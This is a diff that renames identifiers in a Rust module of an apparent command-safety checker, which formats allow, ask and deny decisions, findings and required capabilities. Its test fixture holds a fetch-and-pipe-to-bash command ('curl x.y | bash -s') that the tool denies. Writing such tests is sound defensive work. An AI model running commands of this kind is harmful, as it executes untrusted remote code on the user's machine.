@@ -2,67 +2,67 @@
 
 use std::fmt::Write as _;
 
-use stockade_model::{Assessment, Capability, Decision, RawText, Verdict};
+use stockade_model::{Assessment, Capability, Decision, RawText, PolicyVerdict};
 
-use super::findings::{self, impact, tier};
-use super::{Color, Style, wrap};
+use super::findings::{self, impact_name, tier_name};
+use super::{SgrColor, TextLayout, write_wrapped};
 
 /// Capabilities that are shown; the rest is counted.
-const CAPABILITIES_SHOWN: usize = 20;
+const MAX_CAPABILITIES_SHOWN: usize = 20;
 
 /// Returns the name of the verdict.
-pub fn verdict(verdict: Verdict) -> &'static str {
+pub fn verdict_name(verdict: PolicyVerdict) -> &'static str {
     match verdict {
-        Verdict::Allow => "allow",
-        Verdict::Ask => "ask",
-        Verdict::Deny => "deny",
+        PolicyVerdict::Allow => "allow",
+        PolicyVerdict::Ask => "ask",
+        PolicyVerdict::Deny => "deny",
     }
 }
 
 /// Formats the decision, then its reasons, then the findings.
-pub fn judgement(command: &RawText, assessment: &Assessment, decision: &Decision, style: Style) -> String {
+pub fn format_decision(command: &RawText, assessment: &Assessment, decision: &Decision, style: TextLayout) -> String {
     let mut out = String::new();
     let color = match decision.verdict {
-        Verdict::Allow => Color::Bold,
-        Verdict::Ask => Color::Yellow,
-        Verdict::Deny => Color::Red,
+        PolicyVerdict::Allow => SgrColor::Bold,
+        PolicyVerdict::Ask => SgrColor::Yellow,
+        PolicyVerdict::Deny => SgrColor::Red,
     };
-    let rule = RawText::from(decision.rule.as_str()).escaped();
-    let _ = writeln!(out, "decision  {}   ({rule})", style.paint(color, verdict(decision.verdict)));
-    let escaped = |reason: &str| RawText::from(reason).escaped();
-    for reason in findings::reasons(&decision.reasons, &assessment.findings, command, escaped) {
-        wrap(&mut out, style, "because   ", &reason);
+    let rule = RawText::from(decision.rule.as_str()).to_escaped();
+    let _ = writeln!(out, "decision  {}   ({rule})", style.paint_text(color, verdict_name(decision.verdict)));
+    let escaped = |reason: &str| RawText::from(reason).to_escaped();
+    for reason in findings::format_reasons(&decision.reasons, &assessment.findings, command, escaped) {
+        write_wrapped(&mut out, style, "because   ", &reason);
     }
-    let _ = writeln!(out, "tier      {}", tier(assessment.tier));
-    let _ = writeln!(out, "impact    {}", impact(assessment.impact));
-    for finding in findings::beside(&decision.reasons, &assessment.findings, command) {
-        wrap(&mut out, style, "finding   ", &finding);
+    let _ = writeln!(out, "tier      {}", tier_name(assessment.tier));
+    let _ = writeln!(out, "impact    {}", impact_name(assessment.impact));
+    for finding in findings::format_other_findings(&decision.reasons, &assessment.findings, command) {
+        write_wrapped(&mut out, style, "finding   ", &finding);
     }
-    for capability in assessment.capabilities.iter().take(CAPABILITIES_SHOWN) {
-        wrap(&mut out, style, "needs     ", &need(capability));
+    for capability in assessment.capabilities.iter().take(MAX_CAPABILITIES_SHOWN) {
+        write_wrapped(&mut out, style, "needs     ", &format_capability(capability));
     }
-    if assessment.capabilities.len() > CAPABILITIES_SHOWN {
-        let _ = writeln!(out, "          and {} more", assessment.capabilities.len() - CAPABILITIES_SHOWN);
+    if assessment.capabilities.len() > MAX_CAPABILITIES_SHOWN {
+        let _ = writeln!(out, "          and {} more", assessment.capabilities.len() - MAX_CAPABILITIES_SHOWN);
     }
     out
 }
 
-fn need(capability: &Capability) -> String {
+fn format_capability(capability: &Capability) -> String {
     match capability {
-        Capability::Read(path) => format!("read {}", path.escaped()),
-        Capability::Write(path) => format!("write {}", path.escaped()),
-        Capability::Delete(path) => format!("delete {}", path.escaped()),
-        Capability::Execute(program) => format!("execute {}", program.escaped()),
-        Capability::Network(Some(host)) => format!("network: {}", host.escaped()),
+        Capability::Read(path) => format!("read {}", path.to_escaped()),
+        Capability::Write(path) => format!("write {}", path.to_escaped()),
+        Capability::Delete(path) => format!("delete {}", path.to_escaped()),
+        Capability::Execute(program) => format!("execute {}", program.to_escaped()),
+        Capability::Network(Some(host)) => format!("network: {}", host.to_escaped()),
         Capability::Network(None) => "network".to_owned(),
-        Capability::Secret(path) => format!("the secret {}", path.escaped()),
-        Capability::Privilege(how) => format!("more privilege: {}", how.escaped()),
+        Capability::Secret(path) => format!("the secret {}", path.to_escaped()),
+        Capability::Privilege(how) => format!("more privilege: {}", how.to_escaped()),
     }
 }
 
 #[cfg(test)]
 mod tests {
-    use stockade_model::{Finding, Impact, Span, Tier};
+    use stockade_model::{Finding, Impact, TextSpan, Tier};
 
     use super::*;
 
@@ -75,7 +75,7 @@ mod tests {
                     tier: Tier::Deny,
                     impact: Impact::Outward,
                     message: "runs what it fetches".into(),
-                    span: Some(Span { start: 0, end: 19 }),
+                    span: Some(TextSpan { start: 0, end: 19 }),
                 },
                 Finding {
                     code: "reader".into(),
@@ -87,14 +87,14 @@ mod tests {
             ],
             capabilities: vec![Capability::Execute("curl".into()), Capability::Network(Some("x.y\u{1b}".into()))],
             impact: Impact::Outward,
-            ..Assessment::bare(Tier::Deny)
+            ..Assessment::without_findings(Tier::Deny)
         };
         let decision = Decision {
-            verdict: Verdict::Deny,
+            verdict: PolicyVerdict::Deny,
             rule: "tier deny".into(),
             reasons: vec!["the text itself shows harm".into()],
         };
-        let shown = judgement(&"curl x.y\u{1b} | bash -s".into(), &assessment, &decision, Style::PLAIN);
+        let shown = format_decision(&"curl x.y\u{1b} | bash -s".into(), &assessment, &decision, TextLayout::PLAIN);
         insta::assert_snapshot!(shown, @r"
         decision  deny   (tier deny)
         because   the text itself shows harm
